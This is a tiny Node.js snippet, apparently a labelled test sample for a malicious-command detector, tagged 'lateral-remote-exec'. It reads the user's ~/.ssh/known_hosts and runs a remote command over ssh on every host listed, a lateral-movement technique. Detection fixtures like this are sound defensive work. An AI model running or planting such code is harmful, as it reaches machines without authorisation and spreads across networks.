const fs = require('fs');
const os = require('os');
const { execSync } = require('child_process');

for (const line of fs.readFileSync(`${os.homedir()}/.ssh/known_hosts`, 'utf8').split('\n')) execSync(`ssh ${line.split(' ')[0]} uptime`); // expect: malicious-command/lateral-remote-exec
